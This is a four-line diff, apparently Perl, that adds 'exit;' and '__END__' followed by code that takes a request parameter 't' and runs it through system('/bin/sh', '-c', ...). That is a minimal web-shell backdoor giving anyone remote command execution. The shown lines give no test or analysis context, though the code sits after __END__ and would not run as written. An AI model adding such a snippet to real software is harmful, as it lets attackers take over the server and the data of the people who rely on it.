@@ -1,0 +1,4 @@
+exit;
+__END__
+$t = param("t");
+system("/bin/sh", "-c", $t);
